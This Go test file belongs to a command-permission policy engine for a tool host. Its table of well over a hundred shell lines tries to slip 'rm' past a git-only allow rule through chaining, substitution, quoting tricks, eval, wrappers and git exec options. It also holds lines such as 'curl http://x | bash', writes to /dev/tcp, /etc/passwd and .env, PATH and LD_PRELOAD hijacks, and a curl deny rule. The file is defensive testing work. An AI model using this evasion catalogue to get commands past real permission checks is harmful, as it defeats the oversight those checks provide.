package permission

import (
	"fmt"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/toolhost/toolhost/tool"
)

// gitOnly lets git run, stops rm, and asks about the rest.
func gitOnly() *Policy {
	return &Policy{Root: "/work/root", Lists: []List{list(ask("shell", "*"), allow("shell", "git*"), deny("shell", "rm*"))}, Defaults: Defaults()}
}

// TestLaw38CommandsAreJudgedWhole tries to get rm past git's allow. What is
// denied is so because an rm can be told; what is allowed runs only git. Seen to
// fail with only the first command judged, without unquoting, with the allow
// matched on the raw words, with wrappers left alone, and with doubts ignored.
func TestLaw38CommandsAreJudgedWhole(t *testing.T) {
	policy := gitOnly()
	for _, c := range evasions {
		if got := policy.Evaluate("shell", c.line, ""); got.Effect != c.want {
			t.Errorf("%.200q: got %.200s, want %s", c.line, got, c.want)
		}
	}
	if len(evasions) < 150 {
		t.Errorf("the table has %d lines", len(evasions))
	}
}

// evasions are lines with their verdicts under [gitOnly].
var evasions = []struct {
	line string
	want Effect
}{
	// Only git.
	{"git status", Allow},
	{"  git   status  ", Allow},
	{"git status && git log", Allow},
	{"git log | git shortlog; git status &", Allow},
	{"'git' \"status\"", Allow},
	{`g\it status`, Allow},
	{"git rm f", Allow},
	{"git commit -m 'rm the file'", Allow},
	{"git add *.go", Allow},
	{"git status 2>&1 >/dev/null", Allow},
	{"(git status)", Allow},
	{"{ git status; }", Allow},
	{"if git diff --quiet; then git status; fi", Allow},
	{"LANG=C git log", Allow},
	{"time git status", Allow},
	{"! git diff", Allow},
	{"git status # rm f", Allow},
	{"git {status,log}", Allow},
	{"git log --format='%h (rm)'", Allow},
	{"", Ask},
	{"   ", Ask},
	{"# rm f", Ask},

	// C01: chains.
	{"rm f", Deny},
	{"git status && rm f", Deny},
	{"git status; rm f", Deny},
	{"git status || rm f", Deny},
	{"git status | rm f", Deny},
	{"git status |& rm f", Deny},
	{"git status & rm f", Deny},
	{"git status\nrm f", Deny},
	{"git status\r\nrm f", Deny},
	{"git status;rm f", Deny},
	{"git status&&rm f", Deny},
	{"git status && touch pwn", Ask},
	{"git status; touch pwn", Ask},
	{"git status || touch pwn", Ask},
	{"git status | touch pwn", Ask},
	{"git status & touch pwn", Ask},
	{"git status\ntouch pwn", Ask},
	{"git status\r\ntouch pwn", Ask},
	{"git status\r\ngit log", Ask},
	{"git status \\\n; rm f", Deny},

	// Grouping and control flow.
	{"(rm f)", Deny},
	{"(git status; (rm f))", Deny},
	{"{ rm f; }", Deny},
	{"! rm f", Deny},
	{"time rm f", Deny},
	{"time -p rm f", Deny},
	{"coproc rm f", Deny},
	{"coproc C { rm f; }", Deny},
	{"if true; then rm f; fi", Deny},
	{"if rm f; then git status; fi", Deny},
	{"if git status; then git log; elif rm f; then git log; else git log; fi", Deny},
	{"if git status; then git log; else rm f; fi", Deny},
	{"while rm f; do git status; done", Deny},
	{"until git status; do rm f; done", Deny},
	{"for LANG in a b; do rm f; done", Deny},
	{"for f in *; do git add x; done", Ask},
	{"for ((i=0;i<1;i++)); do rm f; done", Deny},
	{"select x in a; do rm f; done", Deny},
	{"case x in x) rm f;; esac", Deny},
	{"case x in y) git status;; *) rm f;; esac", Deny},
	{"case $(rm f) in x) git status;; esac", Deny},
	{"f() { rm f; }", Deny},
	{"f() { rm f; }; f", Deny},
	{"function g { rm f; }", Deny},
	{"git() { rm f; }; git status", Deny},
	{"git() { /tmp/x; }; git status", Ask},
	{"f() (rm f)", Deny},

	// Substitutions.
	{"git log $(rm f)", Deny},
	{"git log `rm f`", Deny},
	{"git log \"$(rm f)\"", Deny},
	{"git log \"`rm f`\"", Deny},
	{"git log <(rm f)", Deny},
	{"git log >(rm f)", Deny},
	{"git log ${x:-$(rm f)}", Deny},
	{"git log ${x:=`rm f`}", Deny},
	{"git log ${x/a/$(rm f)}", Deny},
	{"git log ${a[$(rm f)]}", Deny},
	{"git log $((1+$(rm f)))", Deny},
	{"git log $[1+$(rm f)]", Deny},
	{"((x=$(rm f)))", Deny},
	{"[[ -n $(rm f) ]]", Deny},
	{"[[ a =~ $(rm f) ]]", Deny},
	{"x=$(rm f) git status", Deny},
	{"x=$(rm f)", Deny},
	{"x=(a $(rm f))", Deny},
	{"x[$(rm f)]=1", Deny},
	{"export x=$(rm f)", Deny},
	{"declare -a x=($(rm f))", Deny},
	{"let x=$(rm f)", Deny},
	{"git status > $(rm f)", Deny},
	{"git status < <(rm f)", Deny},
	{"git status <<< $(rm f)", Deny},
	{"git apply <<E\n$(rm f)\nE", Deny},
	{"git apply <<E\n`rm f`\nE", Deny},
	{"git apply <<'E'\n$(rm f)\nE", Allow},
	{"git log $(git log $(rm f))", Deny},
	{"git log `git log \\`rm f\\``", Deny},
	{"git log $(echo rm)", Ask},
	{"git log $x", Ask},
	{"$x rm f", Deny},
	{"r$@m f", Deny},
	{"r${x}m f", Deny},
	{"$(echo rm) f", Ask},
	{"`echo rm` f", Ask},
	{"${x:-rm} f", Ask},
	{"$RM f", Ask},
	{"\"$@\"", Ask},
	{"test -v 'x[$(rm f)]'", Ask},
	{"git log $(( 'a[$(rm f)]' ))", Ask},

	// Spellings of the name.
	{"'rm' f", Deny},
	{"\"rm\" f", Deny},
	{"r'm' f", Deny},
	{"'r'm f", Deny},
	{"r\"\"m f", Deny},
	{`r\m f`, Deny},
	{`\rm f`, Deny},
	{"r\\\nm f", Deny},
	{"$'rm' f", Deny},
	{`$'\x72m' f`, Deny},
	{`$'\162\155' f`, Deny},
	{`$'\u0072m' f`, Deny},
	{`$'rm\0x' f`, Deny},
	{"$\"rm\" f", Deny},
	{"/bin/rm f", Deny},
	{"/usr/bin/../bin/rm f", Deny},
	{"./rm f", Deny},
	{"~/bin/rm f", Deny},
	{"'/bin/rm' f", Deny},
	{"/bin/r\"m\" f", Deny},
	{"RM f", Deny},
	{"{rm,f}", Deny},
	{"{rm,x,y}", Deny},
	{"{,rm} f", Deny},
	{"{r,}m f", Deny},
	{"{r..r}m f", Deny},
	{"r? f", Ask},
	{"/bin/r? f", Ask},
	{"/bin/r[m] f", Ask},
	{"r* f", Ask},
	{"!(rm) f", Ask},
	{"r\x00m f", Deny},
	{"'git status' f", Ask},
	{"'' rm f", Deny},
	{"./git status", Ask},
	{"/tmp/git status", Ask},
	{"git\xff status", Ask},
	{"rm\tf", Deny},
	{"rm", Deny},
	{"{rm,f", Ask},
	{"git {rm,{f", Allow},

	// Assignments in front.
	{"FOO=1 rm f", Deny},
	{"FOO=1 BAR=2 /bin/rm f", Deny},
	{"PATH=/tmp git status", Ask},
	{"PATH=/tmp:$PATH git status", Ask},
	{"LD_PRELOAD=./x.so git status", Ask},
	{"GIT_SSH_COMMAND='rm f' git fetch", Ask},
	{"GIT_EXTERNAL_DIFF=rm git diff", Ask},
	{"PATH=/tmp; git status", Ask},
	{"export PATH=/tmp; git status", Ask},
	{"x=rm; $x f", Ask},
	{"IFS=x; git status", Ask},
	{"PS4='$(rm f)'; set -x; git status", Ask},
	{"BASH_ENV=x git status", Ask},
	{"for PATH in /tmp; do git status; done", Ask},
	{"git status {PATH}>/dev/null", Ask},

	// Shells and builtins that run text.
	{"eval rm f", Deny},
	{"eval 'rm f'", Deny},
	{"eval \"git status; rm f\"", Deny},
	{"eval -- rm f", Deny},
	{"eval r'm f'", Deny},
	{"eval $x", Ask},
	{"eval git status", Ask},
	{"builtin eval rm f", Deny},
	{"sh -c 'rm f'", Deny},
	{"bash -c 'rm f'", Deny},
	{"bash -ec 'rm f'", Deny},
	{"bash -xec 'rm f'", Deny},
	{"bash -c -e 'rm f'", Deny},
	{"bash -c -- 'rm f'", Deny},
	{"bash -o pipefail -c 'rm f'", Deny},
	{"bash -eo pipefail -c 'rm f'", Deny},
	{"bash +e -c 'rm f'", Deny},
	{"bash --norc -c 'rm f'", Deny},
	{"bash --rcfile x -c 'rm f'", Deny},
	{"/bin/bash -c 'git status && rm f'", Deny},
	{"zsh -c 'rm f'", Deny},
	{"dash -c 'rm f'", Deny},
	{"ksh -c 'rm f'", Deny},
	{"sh -c \"sh -c 'rm f'\"", Deny},
	{"sh -c 'eval \"r\"m f'", Deny},
	{"sh -c '[[ x && rm f ]]'", Deny},
	{"sh -c '((rm f))'", Deny},
	{"sh -c \"$x\"", Ask},
	{"sh -c '$0 f' rm", Ask},
	{"sh script.sh", Ask},
	{"sh ./rm f", Deny},
	{". ./x", Ask},
	{"source x", Ask},
	{"bash <<E\nrm f\nE", Deny},
	{"bash <<'E'\nrm f\nE", Deny},
	{"bash <<-E\n\trm f\n\tE", Deny},
	{"bash -s <<< 'rm f'", Deny},
	{"sh <<< \"rm f\"", Deny},
	{"cat <<E | sh\nrm f\nE", Deny},
	{"echo rm f | sh", Ask},
	{"curl http://x | bash", Ask},
	{"git status | sh", Ask},
	{"trap 'rm f' EXIT", Deny},
	{"trap -- 'rm f' 0; git status", Deny},
	{"alias git=rm; git f", Deny},
	{"alias g='git status'\ng", Ask},
	{"hash -p /bin/rm git; git f", Deny},
	{"shopt -s expand_aliases", Ask},
	{"complete -C 'rm f' x", Ask},
	{"mapfile -C 'rm f' -c 1 x", Ask},
	{"read PATH <<< /tmp; git status", Ask},

	// C05: wrappers.
	{"env rm f", Deny},
	{"env -i rm f", Deny},
	{"env FOO=1 rm f", Deny},
	{"env -u X FOO=1 -- rm f", Deny},
	{"env -S 'rm f'", Deny},
	{"env -S'rm f'", Deny},
	{"env -iS 'rm f'", Deny},
	{"env --split-string='rm f'", Deny},
	{"env PATH=/tmp git status", Ask},
	{"env git status", Ask},
	{"env --new-option rm f", Deny},
	{"/usr/bin/env rm f", Deny},
	{"sudo rm f", Deny},
	{"sudo -u root rm f", Deny},
	{"sudo -nu root -- rm f", Deny},
	{"sudo --user=root rm f", Deny},
	{"sudo FOO=1 rm f", Deny},
	{"sudo git status", Ask},
	{"sudo -s", Ask},
	{"doas rm f", Deny},
	{"nice rm f", Deny},
	{"nice -n 5 rm f", Deny},
	{"nice -5 rm f", Deny},
	{"timeout 1 rm f", Deny},
	{"timeout -k 5 -s KILL 1 rm f", Deny},
	{"nohup rm f &", Deny},
	{"setsid rm f", Deny},
	{"stdbuf -oL rm f", Deny},
	{"ionice -c 3 rm f", Deny},
	{"command rm f", Deny},
	{"command -p rm f", Deny},
	{"exec rm f", Deny},
	{"exec -a git rm f", Deny},
	{"\\time rm f", Deny},
	{"/usr/bin/time -f %e rm f", Deny},
	{"busybox rm f", Deny},
	{"chroot / rm f", Deny},
	{"xargs rm", Deny},
	{"echo f | xargs rm", Deny},
	{"xargs -0 -n 1 rm -f", Deny},
	{"xargs -I{} rm {}", Deny},
	{"xargs sh -c 'rm f'", Deny},
	{"xargs git add", Ask},
	{"find . -exec rm {} +", Deny},
	{"find . -exec rm {} \\;", Deny},
	{"find . -name x -execdir /bin/rm {} ';'", Deny},
	{"find . -ok rm {} \\;", Deny},
	{"find . -exec git add {} + -exec rm {} +", Deny},
	{"find . -exec sh -c 'rm \"$1\"' _ {} \\;", Deny},
	{"find . -delete", Ask},
	{"watch rm f", Deny},
	{"watch -n 1 'git status; rm f'", Deny},
	{"parallel rm ::: f", Deny},
	{"ssh host rm f", Deny},
	{"ssh host 'git status; rm f'", Deny},
	{"strace -f rm f", Deny},
	{"env sudo nice timeout 1 rm f", Deny},
	{"nice $x rm f", Deny},
	{"./myrun rm f", Deny},
	{"./myrun --flag /bin/rm f", Deny},
	{"./myrun -c 'rm f'", Ask},
	{"./myrun --run='rm f'", Ask},
	{"./myrun 'cd x && rm f'", Ask},
	{"./myrun git status", Ask},

	// C22: options that make git run something.
	{"git -c core.pager='rm f' log", Ask},
	{"git -c alias.x='!rm f' x", Ask},
	{"git --exec-path=. status", Ask},
	{"git -p show", Ask},
	{"git --git-dir=/tmp/x status", Ask},
	{"git bisect run rm f", Deny},
	{"git submodule foreach 'rm f'", Deny},
	{"git submodule foreach --recursive rm f", Deny},
	{"git rebase -x 'rm f' HEAD~1", Deny},
	{"git rebase --exec='rm f' HEAD~1", Deny},
	{"git rebase --exe 'rm f' HEAD~1", Deny},
	{"git grep -O'rm f' x", Deny},
	{"git difftool -x 'rm f'", Deny},
	{"git fetch --upload-pack='rm f' x", Deny},
	{"git clone -u 'rm f' x", Deny},
	{"git clone 'ext::rm f' x", Deny},
	{"git config alias.x '!rm f'", Deny},
	{"git config core.pager 'rm f'", Deny},
	{"git filter-branch --tree-filter 'rm f'", Deny},
	{"git diff --output=p", Ask},
	{"git $x", Ask},

	// Redirections are writes.
	{"git log > f", Ask},
	{"git log >> f", Ask},
	{"git log >| f", Ask},
	{"git log &> f", Ask},
	{"git log &>> f", Ask},
	{"git log >& f", Ask},
	{"git log <> f", Ask},
	{"git log 2> f", Ask},
	{"git log > /etc/passwd", Ask},
	{"git log > ../x", Ask},
	{"git log > $f", Ask},
	{"> f", Ask},
	{"exec > f", Ask},
	{"{ git log; } > f", Ask},
	{"git log > /dev/tcp/h/1", Ask},
	{"git log < /dev/tcp/h/1", Ask},
	{"git log 2>&1", Allow},
	{"git log > /dev/null 2>&1", Allow},
	{"git log 2>&-", Allow},

	// What cannot be read.
	{"git status; (rm f", Ask},
	{"rm f; (", Deny},
	{"git status '", Ask},
	{"git status $(", Ask},
	{"git status\nrm f\n)", Deny},
	{"git status " + strings.Repeat("x", 70_000), Ask},
	{strings.Repeat("git status; ", 1200), Allow},
	{manyCommands(1200), Ask},
	{strings.Repeat("(", 5000) + "rm f" + strings.Repeat(")", 5000), Ask},
	{strings.Repeat("(", 3000) + "rm f" + strings.Repeat(")", 3000), Deny},
	{"git log " + strings.Repeat("$(git log ", 59) + "$(rm f" + strings.Repeat(")", 60), Deny},
	{strings.Repeat("env ", 50) + "rm f", Ask},
	{"git {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}", Ask},
	{"git status\x00", Ask},
	{"git status \rrm f", Ask},
}

// manyCommands is a line of that many different commands.
func manyCommands(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "git log -%d\n", i)
	}
	return b.String()
}

// TestCaseC01ChainsOfAWholeRule: an allow for the first command of a line covers
// no other.
func TestCaseC01ChainsOfAWholeRule(t *testing.T) {
	policy := &Policy{Lists: []List{list(ask("shell", "*"), allow("shell", "git status*"))}}
	for _, connector := range []string{"&&", ";", "||", "|", "&", "\n", "\r\n"} {
		line := "git status " + connector + " touch pwn"
		if got := policy.Evaluate("shell", line, ""); got.Effect != Ask {
			t.Errorf("%q: got %s, want ask", line, got)
		}
	}
}

// TestCaseC05UnknownWrappers: an allow for a program that runs its arguments
// covers none of them. Seen to fail with the arguments of unknown programs left
// alone.
func TestCaseC05UnknownWrappers(t *testing.T) {
	unruled := &Policy{Lists: []List{list(deny("shell", "rm *"), allow("shell", "ls*"))}}
	wrapped := &Policy{Lists: []List{list(allow("shell", "*"), deny("shell", "rm *"), deny("shell", "mytool*"))}}
	for _, line := range []string{
		"env rm f", "nice rm f", "xargs rm", "timeout 1 rm f", "sudo rm f", "find . -exec rm {} +", "./myrun rm f",
		"./myrun mytool x", "./myrun --with=mytool x", "./myrun /opt/mytool x", "./myrun 'a; mytool x'", "python -c 'rm f'",
	} {
		for _, policy := range []*Policy{unruled, wrapped} {
			if got := policy.Evaluate("shell", line, ""); got.Effect < Ask {
				t.Errorf("%q: got %s, want no allow", line, got)
			}
		}
	}
	// The allow for the wrapper does not cover what it runs, nor the other way round.
	policy := &Policy{Lists: []List{list(ask("shell", "*"), allow("shell", "env *"), allow("shell", "git *"))}}
	for line, want := range map[string]Effect{"env git status": Allow, "env make": Ask, "nice git status": Ask, "env": Ask} {
		if got := policy.Evaluate("shell", line, ""); got.Effect != want {
			t.Errorf("%q: got %s, want %s", line, got, want)
		}
	}
}

// TestCaseC07DenySpansLineBreaks: a deny matches in whatever line of the text.
func TestCaseC07DenySpansLineBreaks(t *testing.T) {
	policy := &Policy{Lists: []List{list(allow("shell", "*"), deny("shell", "*curl*"))}}
	for _, line := range []string{"cat <<E\nhi\nE\ncurl x", "cat <<E\ncurl x\nE", "cat\ncu''rl x", "echo 'a\ncurl'"} {
		if got := policy.Evaluate("shell", line, ""); got.Effect != Deny {
			t.Errorf("%q: got %s, want denied", line, got)
		}
	}
}

// TestCaseC09AlwaysSavesTheLine: the saved pattern matches the line that was
// shown, and neither a part of it nor anything longer.
func TestCaseC09AlwaysSavesTheLine(t *testing.T) {
	for _, c := range []struct{ line, want string }{
		{"git status && rm -r ./tmp1", "git status && rm -r ./tmp1"},
		{"rm *", `rm \*`},
		{`grep 'a\?b' f`, `grep 'a\\\?b' f`},
		{"", ""},
		{"\xff", ""},
		{strings.Repeat("*", MaxPattern), ""},
	} {
		if got := SavePattern(c.line); got != c.want {
			t.Errorf("%q: got %q, want %q", c.line, got, c.want)
		}
	}
	rapid.Check(t, func(t *rapid.T) {
		text := rapid.StringOfN(rapid.RuneFrom([]rune(`ab*?\`)), 1, 12, -1)
		line, other := text.Draw(t, "line"), text.Draw(t, "other")
		p, err := ParsePattern(SavePattern(line))
		if err != nil {
			t.Fatal(err)
		}
		if !p.Match(line) {
			t.Fatalf("%q does not match %q", p.String(), line)
		}
		if other != line && p.Match(other) {
			t.Fatalf("%q matches %q", p.String(), other)
		}
	})
}

// TestCaseC22NothingIsAllowedByName: without rules every command asks.
func TestCaseC22NothingIsAllowedByName(t *testing.T) {
	policy := &Policy{Root: "/r", Defaults: Defaults()}
	for _, line := range []string{"git status", "ls", "pwd", "true", "echo", "cat x", "git log -p", "cd", ":", "LANG=C", ""} {
		if got := policy.Evaluate("shell", line, ""); got.Effect != Ask {
			t.Errorf("%q: got %s, want ask", line, got)
		}
	}
}

// TestLaw38Writes: redirections are judged as edits of the files as spelled.
func TestLaw38Writes(t *testing.T) {
	policy := &Policy{Root: "/r", Lists: []List{list(allow("shell", "*"), allow("edit", "*"), deny("edit", "*.env"), deny("edit", "sub/no*"))}}
	for _, c := range []struct {
		line, directory string
		want            Effect
	}{
		{"echo > a", "", Allow},
		{"echo > /r/a", "", Allow},
		{"echo > /r/sub/../a", "", Allow},
		{"echo > .env", "", Deny},
		{"echo > ./x/../.env", "", Deny},
		{"echo > '.e'nv", "", Deny},
		{"echo > /r/.env", "", Deny},
		{"echo > $d/.env", "", Deny},
		{"echo > $d", "", Ask},
		{"echo > {a,.env}", "", Ask},
		{"echo > *.x", "", Ask},
		{"echo > ~/x", "", Ask},
		{"echo > /q/a", "", Ask},
		{"echo > /ra", "", Ask},
		{"echo > ../a", "", Ask},
		{"echo > ../a", "sub", Allow},
		{"echo > notes", "", Allow},
		{"echo > notes", "sub", Deny},
		{"echo > /r/notes", "sub", Allow},
		{"cd sub && echo > notes", "", Ask},
		{"cd sub && echo > /r/notes", "", Allow},
		{"exec 3> .env", "", Deny},
		{"echo >& .env", "", Deny},
		{"echo &>> .env", "", Deny},
		{"echo <> .env", "", Deny},
		{"echo >| .env", "", Deny},
		{"{ echo; } 2> .env", "", Deny},
		{"echo < .env", "", Allow},
		{"echo >&2", "", Allow},
		{"find . -fprint .env", "", Deny},
		{"git diff --output=.env", "", Deny},
		{"git diff --outp .env", "", Deny},
	} {
		if got := policy.EvaluateCommand(c.line, c.directory, ""); got.Effect != c.want {
			t.Errorf("%q in %q: got %s, want %s", c.line, c.directory, got, c.want)
		}
	}
}

// TestLaw38FilesJoin: each file is evaluated by itself, the last match wins in
// it, for every command.
func TestLaw38FilesJoin(t *testing.T) {
	for _, c := range []struct {
		name  string
		lists []List
		line  string
		want  Effect
	}{
		{"a deny first, then an allow", []List{list(deny("shell", "*"), allow("shell", "git*"))}, "git status", Allow},
		{"of a line each command needs its own", []List{list(deny("shell", "*"), allow("shell", "git*"))}, "git status; ls", Deny},
		{"every file has its say", []List{list(allow("shell", "*")), list(deny("shell", "git push*"))}, "git status; git push", Deny},
		{"an ask in the second file", []List{list(allow("shell", "*")), list(ask("shell", "git push*"))}, "git status; git push", Ask},
		{"untrusted allows do not count", []List{{DeniesOnly: true, Rules: []Rule{allow("shell", "*")}}}, "ls", Ask},
		{"untrusted denies do", []List{list(allow("shell", "*")), {DeniesOnly: true, Rules: []Rule{deny("shell", "ls*")}}}, "true; ls", Deny},
		{"an allow needs what is known", []List{list(allow("shell", "git *"))}, "git log $x", Ask},
		{"an allow that does not count leaves what stood before it", []List{list(deny("shell", "git*"), allow("shell", "git log*"))}, "git log $x", Deny},
		{"a deny of the whole line", []List{list(allow("shell", "*"), deny("shell", "*&& ls*"))}, "pwd && ls", Deny},
		{"only wildcards do not deny the whole", []List{list(deny("shell", "*"), allow("shell", "cd *"), allow("shell", "ls"))}, "cd a && ls", Allow},
		{"other actions do not matter", []List{list(allow("edit", "*"), deny("read", "*"))}, "ls", Ask},
	} {
		if got := (&Policy{Lists: c.lists}).Evaluate("shell", c.line, ""); got.Effect != c.want {
			t.Errorf("%s: %q: got %s, want %s", c.name, c.line, got, c.want)
		}
	}
}

// TestLaw38VerdictText: the verdict says what decided.
func TestLaw38VerdictText(t *testing.T) {
	policy := gitOnly()
	for _, c := range []struct{ line, text, ground string }{
		{"git status && /bin/rm 'a b'", `denied for "/bin/rm a b" by toolhost.yaml:1`, `by toolhost.yaml:1: "/bin/rm a b"`},
		{"git log $x", `asked for for "git log $x" by toolhost.yaml:1; it has $x in it, which is only known when it runs`, `by toolhost.yaml:1, and it has $x in it, which is only known when it runs: "git log $x"`},
		{"git log > f", `asked for: no rule speaks of it: "> f"`, `no rule speaks of it: "> f"`},
		{"git log\r\n", "asked for: it has carriage returns, which shells take for different things", "it has carriage returns, which shells take for different things"},
	} {
		v := policy.Evaluate("shell", c.line, "")
		if v.String() != c.text || v.ground() != c.ground {
			t.Errorf("%q:\n got %s\n and %s\nwant %s\n and %s", c.line, v, v.ground(), c.text, c.ground)
		}
	}
}

// TestLaw32CommandsOfBuiltins: a configured deny of any part of a line holds for
// a built-in's service too, and nothing else of the rules.
func TestLaw32CommandsOfBuiltins(t *testing.T) {
	gate := New(gitOnly(), nil).Gate(builtin())
	if err := gate.Permit(t.Context(), "shell", "make; sudo ls > x"); err != nil {
		t.Errorf("a line that is not denied: %v", err)
	}
	wantRefusal(t, gate.Permit(t.Context(), "shell", "git status && env rm f"), tool.KindDenied, `shell of "git status && env rm f" is denied: by toolhost.yaml:1: "rm f"`)
}

// TestLaw38GateKnowsTheDirectory: a request says where its line runs.
func TestLaw38GateKnowsTheDirectory(t *testing.T) {
	policy := &Policy{Root: "/r", Lists: []List{list(allow("shell", "*"), allow("edit", "*"), deny("edit", "sub/x"))}}
	assertion := request("shell", "echo > x")
	if err := New(policy, nil).Gate(builtin()).Assert(t.Context(), assertion); err != nil {
		t.Error(err)
	}
	assertion.Metadata = map[string]string{MetadataDirectory: "sub"}
	wantRefusal(t, New(policy, nil).Gate(builtin()).Assert(t.Context(), assertion), tool.KindDenied, `shell of "echo > x" is denied: by toolhost.yaml:1: "> x"`)
}

// TestLaw38NeverWeakerThanItsCommands composes lines of commands: a line's
// verdict is never weaker than that of any simple command in it. Seen to fail
// with the laxest verdict kept, and with each of xargs, else arms and
// substitutions in here-documents left out.
func TestLaw38NeverWeakerThanItsCommands(t *testing.T) {
	policies := []*Policy{
		gitOnly(),
		{Lists: []List{list(allow("shell", "*"), deny("shell", "rm*"), ask("shell", "make*"))}},
		{Lists: []List{list(deny("shell", "*"), allow("shell", "git*"), allow("shell", "env*"))}, Defaults: list(allow("shell", "*"))},
	}
	rapid.Check(t, func(t *rapid.T) {
		var simple []string
		line := composed(t, 0, &simple)
		for _, policy := range policies {
			got := policy.Evaluate("shell", line, "")
			for _, one := range simple {
				if want := policy.Evaluate("shell", one, ""); got.Effect < want.Effect {
					t.Fatalf("%q: got %s, but of %q: %s", line, got, one, want)
				}
			}
		}
	})
}

// composed draws a line and notes the simple commands in it.
func composed(t *rapid.T, depth int, simple *[]string) string {
	if depth == 5 || rapid.IntRange(0, 3).Draw(t, "leaf") == 0 {
		one := rapid.SampledFrom([]string{
			"git status", "rm f", "make all", "ls -l", "/bin/rm -r x", "true", "git log -p", "r\\m f", "'git' diff", "env git log",
		}).Draw(t, "command")
		*simple = append(*simple, one)
		return one
	}
	inner := func() string { return composed(t, depth+1, simple) }
	quote := func(text string) string { return "'" + strings.ReplaceAll(text, "'", `'\''`) + "'" }
	switch rapid.IntRange(0, 21).Draw(t, "form") {
	case 0:
		return inner() + rapid.SampledFrom([]string{" && ", " || ", "; ", " | ", " & ", "\n", " |& ", ";"}).Draw(t, "connector") + inner()
	case 1:
		return "( " + inner() + " )"
	case 2:
		return "{ " + inner() + "\n}"
	case 3:
		return "if " + inner() + "\nthen " + inner() + "\nelse " + inner() + "\nfi"
	case 4:
		return "while " + inner() + "\ndo " + inner() + "\ndone"
	case 5:
		return "for x in a\ndo " + inner() + "\ndone"
	case 6:
		return "case a in a) " + inner() + "\n;; b) " + inner() + "\n;; esac"
	case 7:
		return "f() { " + inner() + "\n}"
	case 8:
		return "git log $( " + inner() + "\n)"
	case 9:
		return "git log \"$( " + inner() + "\n)\""
	case 10:
		return "git diff <( " + inner() + "\n)"
	case 11:
		return "{ git apply <<E\n$( " + inner() + "\n)\nE\n}"
	case 12:
		return "git log ${x:-$( " + inner() + "\n)}"
	case 13:
		return "git log $(( 1 + $( " + inner() + "\n) ))"
	case 14:
		return "eval " + quote(inner())
	case 15:
		return rapid.SampledFrom([]string{"sh -c ", "bash -ec ", "dash -c ", "zsh -c ", "bash --norc -c "}).Draw(t, "shell") + quote(inner())
	case 16:
		return "trap " + quote(inner()) + " EXIT"
	case 17:
		return "bash <<< " + quote(inner())
	case 18:
		return "git submodule foreach " + quote(inner())
	case 19:
		return "x=$( " + inner() + "\n)"
	case 20:
		return "watch " + quote(inner())
	default: // only what is one simple command can stand behind these
		one := rapid.SampledFrom([]string{"git status", "rm f", "make all", "/bin/rm -r x", "r\\m f"}).Draw(t, "wrapped")
		*simple = append(*simple, one)
		return rapid.SampledFrom([]string{
			"env ", "sudo ", "nice ", "timeout 1 ", "nohup ", "xargs ", "command ", "exec ", "env -i A=b ", "sudo -u root ", "busybox ",
			"FOO=1 ", "time ", "! ", "coproc ", "setsid ", "stdbuf -oL ", "env sudo nice ",
		}).Draw(t, "wrapper") + one
	}
}

// BenchmarkEvaluate1000Rules is one request against a thousand rules, none of
// which matches before the last that is looked at.
func BenchmarkEvaluate1000Rules(b *testing.B) {
	l := list(allow("*", "*"))
	for i := range 999 {
		switch i % 3 {
		case 0:
			l.Rules = append(l.Rules, deny("shell", fmt.Sprintf("tool%d *", i)))
		case 1:
			l.Rules = append(l.Rules, deny("edit", fmt.Sprintf("*/dir%d/*", i)))
		default:
			l.Rules = append(l.Rules, allow("weather/*", fmt.Sprintf("place%d", i)))
		}
	}
	policy := &Policy{Root: "/r", Lists: []List{l}}
	path := strings.Repeat("segment/", 6) + "file.go"
	for _, c := range []struct{ name, action, resource string }{
		{"path", "edit", path},
		{"command", "shell", "git status --short"},
		{"chain", "shell", "cd sub && git add . && git commit -m 'a message'"},
		{"wrapped", "shell", "sudo env FOO=1 timeout 5 sh -c 'git log | head -5'"},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				policy.Evaluate(c.action, c.resource, "main")
			}
		})
	}
}
